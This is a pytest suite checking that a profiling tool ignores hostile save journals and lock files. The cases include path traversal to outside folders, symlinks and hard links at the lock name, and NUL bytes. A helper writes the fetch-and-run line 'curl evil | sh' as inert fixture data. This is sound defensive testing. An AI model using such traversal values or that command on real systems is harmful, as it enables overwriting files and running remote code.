"""A save's lock and journal are untrusted data: a journal found beside a report (from a
tarball, a shared folder, a stray commit) never acts outside its set, a lock is never
opened through a link, readers never create a lock, and long names still save.

Every test here runs in a sandbox working folder: a journal that names ``.`` or ``../x``
must not reach the repository's files even where a regression would resolve it."""

from __future__ import annotations

import fcntl
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, run_cli
from synth import full_set_report

import tfdiag
from tfdiag.records import savelock
from tfdiag.records.errors import InputError, SaveJournalWarning
from tfdiag.records.files import settle_crashed_save, write_set

LOCK = ".run.tfdiag.json.lock"


@pytest.fixture(autouse=True)
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    cwd = tmp_path / "sandbox" / "cwd"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    return cwd


def _dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def _saved(tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    folder = tmp_path / "reports"
    folder.mkdir()
    full_set_report(first_call_s=0.1).save(folder / "run")
    return folder, _files(folder)


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _victims(tmp_path: Path) -> dict[str, bytes]:
    victim = tmp_path / "victim"
    victim.mkdir(exist_ok=True)
    (victim / "precious.txt").write_text("mine")
    (tmp_path / "bashrc").write_text("export SAFE=1\n")
    (tmp_path / "payload").write_text("curl evil | sh\n")
    return _files(tmp_path / "victim") | {"bashrc": b"export SAFE=1\n"}


def _entry(pid: int, **kw: Any) -> dict[str, Any]:
    entry = {
        "target": "run.prof",
        "temp": f".run.prof.{pid}.0123abcd.tmp",
        "dev": 0,
        "ino": 0,
        "parked": None,
        "folder": False,
    }
    return entry | kw


def _hostile(tmp_path: Path, pid: int) -> dict[str, list[dict[str, Any]]]:
    victim, bashrc, payload = tmp_path / "victim", tmp_path / "bashrc", tmp_path / "payload"
    return {
        "absolute temp outside": [_entry(pid, temp=str(victim), folder=True)],
        "relative temp outside": [_entry(pid, temp="../victim", folder=True)],
        "the report's own folder": [_entry(pid, temp=".", folder=True)],
        "parked over a file outside": [_entry(pid, target=str(bashrc), parked=str(payload))],
        "target ../": [_entry(pid, target="../bashrc", parked=str(payload))],
        "target 5": [_entry(pid, target=5)],
        "a NUL": [_entry(pid, temp=".run.prof\0.tmp")],
        "a temp of another pid": [_entry(pid, temp=f".run.prof.{os.getppid()}.0123abcd.tmp")],
    }


CASES = [
    "absolute temp outside",
    "relative temp outside",
    "the report's own folder",
    "parked over a file outside",
    "target ../",
    "target 5",
    "a NUL",
    "a temp of another pid",
]


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_journal_is_ignored_in_one_line_and_acts_on_nothing(
    tmp_path: Path, case: str
) -> None:
    folder, before = _saved(tmp_path)
    victims = _victims(tmp_path)
    pid = _dead_pid()
    doc = {"pid": pid, "targets": ["run.tfdiag.json"], "entries": _hostile(tmp_path, pid)[case]}
    (folder / LOCK).write_text(json.dumps(doc))
    os.chdir(folder)  # where ``.`` and ``../victim`` would do the most harm
    with pytest.warns(SaveJournalWarning, match="ignored the save lock"):
        tfdiag.load_report(folder / "run.tfdiag.json")
    assert _files(tmp_path / "victim") | {"bashrc": (tmp_path / "bashrc").read_bytes()} == victims
    assert {k: v for k, v in _files(folder).items() if k != LOCK} == before
    assert json.loads((folder / LOCK).read_text()) == doc  # left as it was, for the user


def test_a_journal_of_a_live_process_is_not_acted_on(tmp_path: Path) -> None:
    """Act only on a dead saver's entries: a file with a save's temporary name, made by a
    process that is still running (here: pytest's parent), stays."""
    folder, _ = _saved(tmp_path)
    live = os.getppid()
    temp = folder / f".run.prof.{live}.0123abcd.tmp"
    temp.write_text("not debris: its process lives")
    doc = {"pid": live, "targets": ["run.prof"], "entries": [_entry(live)]}
    (folder / LOCK).write_text(json.dumps(doc))
    with pytest.warns(SaveJournalWarning, match="still running"):
        settle_crashed_save(folder / "run.tfdiag.json")
    assert temp.read_text() == "not debris: its process lives"


def test_explain_beside_a_hostile_journal_says_one_line_and_reads_the_report(
    tmp_path: Path, sandbox: Path
) -> None:
    folder, _ = _saved(tmp_path)
    _victims(tmp_path)
    pid = _dead_pid()
    for case in ("absolute temp outside", "target 5", "a NUL"):
        doc = {"pid": pid, "entries": _hostile(tmp_path, pid)[case]}
        (folder / LOCK).write_text(json.dumps(doc))
        proc = run_cli("explain", str(folder / "run.tfdiag.json"), "--format", "json", cwd=sandbox)
        out, err = proc.stdout, proc.stderr
        assert proc.returncode == 0, err
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("tfdiag: warning: ignored"), err
        assert json.loads(out)["kind"] == "profile"
    assert (tmp_path / "victim" / "precious.txt").read_text() == "mine"


def test_a_saver_replaces_a_hostile_journal_without_acting_on_it(tmp_path: Path) -> None:
    folder, _ = _saved(tmp_path)
    _victims(tmp_path)
    pid = _dead_pid()
    doc = {"pid": pid, "entries": _hostile(tmp_path, pid)["absolute temp outside"]}
    (folder / LOCK).write_text(json.dumps(doc))
    with pytest.warns(SaveJournalWarning):
        full_set_report(first_call_s=0.9).save(folder / "run", overwrite=True)
    assert (tmp_path / "victim" / "precious.txt").read_text() == "mine"
    assert tfdiag.load_report(folder / "run.tfdiag.json").timing.first_call_s == 0.9
    assert not (folder / LOCK).exists()


# -- the lock file itself ------------------------------------------------------------------


@pytest.mark.parametrize("dangling", [False, True])
def test_a_symlink_at_the_lock_name_is_never_followed(tmp_path: Path, dangling: bool) -> None:
    folder, _ = _saved(tmp_path)
    victim = tmp_path / "victim.txt"
    if not dangling:
        victim.write_text("mine")
    (folder / LOCK).symlink_to(victim)
    with pytest.warns(SaveJournalWarning, match="symbolic link"):
        tfdiag.load_report(folder / "run.tfdiag.json")
    with pytest.raises(InputError, match="symbolic link") as info:
        full_set_report(first_call_s=0.9).save(folder / "run", overwrite=True)
    assert "\n" not in str(info.value)
    if dangling:
        assert not victim.exists()
    else:
        assert victim.read_text() == "mine"
    assert (folder / LOCK).is_symlink()  # left for the user to look at


def test_a_hard_link_at_the_lock_name_is_refused(tmp_path: Path) -> None:
    folder, _ = _saved(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    os.link(victim, folder / LOCK)
    with pytest.warns(SaveJournalWarning, match="2 links"):
        tfdiag.load_report(folder / "run.tfdiag.json")
    with pytest.raises(InputError, match="2 links"):
        full_set_report(first_call_s=0.9).save(folder / "run", overwrite=True)
    assert victim.read_text() == "mine"


def test_a_reader_never_creates_a_lock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The race of #20.4: the lock existed when the reader looked and was gone when it
    opened it; the reader must not create one (it would block the saver's next save)."""
    folder, _ = _saved(tmp_path)
    opened: list[int] = []
    real_open = os.open

    def recording(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if Path(path).name == LOCK:
            opened.append(flags)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os.path, "lexists", lambda p: True)  # it was there a moment ago
    monkeypatch.setattr(os, "open", recording)
    settle_crashed_save(folder / "run.tfdiag.json")
    monkeypatch.undo()
    assert opened and not any(f & os.O_CREAT for f in opened)
    assert not (folder / LOCK).exists()


def _hold(lock: Path, pid: int) -> int:
    """Hold ``lock`` as a reader settling it would (a journal naming a dead saver)."""
    fd = os.open(lock, os.O_RDWR | os.O_CREAT, 0o600)
    os.write(fd, json.dumps({"pid": pid, "targets": []}).encode())
    fcntl.flock(fd, fcntl.LOCK_EX)
    return fd


def test_a_saver_waits_for_a_reader_that_holds_the_lock(tmp_path: Path) -> None:
    folder, _ = _saved(tmp_path)
    fd = _hold(folder / LOCK, _dead_pid())

    def let_go() -> None:
        time.sleep(0.3)
        os.unlink(folder / LOCK)  # as a reader does once it has settled the save
        os.close(fd)

    thread = threading.Thread(target=let_go)
    thread.start()
    full_set_report(first_call_s=0.9).save(folder / "run", overwrite=True)
    thread.join()
    assert tfdiag.load_report(folder / "run.tfdiag.json").timing.first_call_s == 0.9
    assert not (folder / LOCK).exists()


def test_readers_polling_never_fail_a_lone_writers_saves(tmp_path: Path) -> None:
    """#20.4 as it was found: 14-21 of 400 saves failed with two readers polling."""
    lab = tmp_path / "lab"
    lab.mkdir()
    proc = subprocess.run(
        [sys.executable, str(ROOT / "tests" / "savelab.py"), "readers", str(lab), "150"],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=lab,
    )
    assert proc.returncode == 0, proc.stderr
    *saves, readers = json.loads(proc.stdout)["trials"]
    assert len(saves) == 150 and [s for s in saves if s["exit"]] == []
    assert readers["readers"] == [0, 0]
    assert "Warning" not in proc.stderr, proc.stderr[-2000:]  # nothing said about the lock


def test_a_held_lock_never_names_a_saver_that_does_not_exist(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, _ = _saved(tmp_path)
    dead = _dead_pid()
    fd = _hold(folder / LOCK, dead)
    monkeypatch.setattr(savelock, "WAIT_S", 0.2, raising=False)
    try:
        with pytest.raises(InputError) as info:
            full_set_report(first_call_s=0.9).save(folder / "run", overwrite=True)
    finally:
        os.close(fd)
    message = str(info.value)
    assert "is saving" not in message and str(dead) not in message, message
    assert "held by another process" in message


# -- relative paths, journals that cannot be applied ------------------------------------


def test_a_crashed_relative_save_is_settled_from_another_folder(tmp_path: Path) -> None:
    """Each child saves ``tNNN/run`` from ``lab`` and dies at its k-th filesystem step; the
    reader here reads it by its absolute path from another working folder."""
    lab = tmp_path / "lab"
    lab.mkdir()
    proc = subprocess.run(
        [sys.executable, str(ROOT / "tests" / "savelab.py"), "steps-relative", str(lab)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=lab,
    )
    assert proc.returncode == 0, proc.stderr
    trials = json.loads(proc.stdout)["trials"]
    refs = {0.1: _visible(lab / "ref_old"), 0.9: _visible(lab / "ref_new")}
    assert len(trials) > 20
    for t in trials[:-1]:
        folder = Path(t["folder"])
        report = tfdiag.load_report(folder / "run.tfdiag.json")
        assert _visible(folder) == refs[report.timing.first_call_s], t
        assert sorted(p.name for p in folder.iterdir() if p.name.startswith(".")) == [], t


def _visible(folder: Path) -> dict[str, bytes]:
    return {k: v for k, v in _files(folder).items() if not k.startswith(".")}


def test_a_journal_that_cannot_be_applied_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, _ = _saved(tmp_path)
    prof = folder / "run.prof"
    pid = _dead_pid()
    parked = folder / f".run.prof.{pid}.0123abcd.old"
    saved = prof.read_bytes()
    os.rename(prof, parked)
    prof.write_bytes(b"half a new save")
    commit_temp = f".run.tfdiag.json.{pid}.0123abcd.tmp"
    doc = {
        "pid": pid,
        "targets": ["run.tfdiag.json", "run.prof"],
        "entries": [
            _entry(pid, parked=parked.name),
            _entry(pid, target="run.tfdiag.json", temp=commit_temp),
        ],
    }
    (folder / LOCK).write_text(json.dumps(doc))

    def refused(*args: Any, **kwargs: Any) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refused)
    with pytest.warns(SaveJournalWarning, match="could not be settled"):
        settle_crashed_save(folder / "run.tfdiag.json")
    monkeypatch.undo()
    assert json.loads((folder / LOCK).read_text()) == doc  # kept: the next reader settles it
    settle_crashed_save(folder / "run.tfdiag.json")
    assert not (folder / LOCK).exists() and not parked.exists()
    assert prof.read_bytes() == saved


# -- long names --------------------------------------------------------------------------


@pytest.mark.parametrize("length", [237, 243, 255])
def test_a_legal_long_name_saves_and_settles(tmp_path: Path, length: int) -> None:
    name = "n" * (length - len(".json")) + ".json"
    path = tmp_path / name
    write_set({path: b"first"})
    write_set({path: b"second"}, overwrite=True)
    assert path.read_bytes() == b"second"
    stem = "é" * ((length - len(".speedscope.json")) // 2)  # two bytes each: its longest
    # companion's name is ``length`` bytes (or one less)
    written = full_set_report().save(tmp_path / stem)
    full_set_report(first_call_s=0.9).save(tmp_path / stem, overwrite=True)
    assert tfdiag.load_report(written[0]).timing.first_call_s == 0.9
    assert not [p for p in os.listdir(tmp_path) if p.startswith(".")]
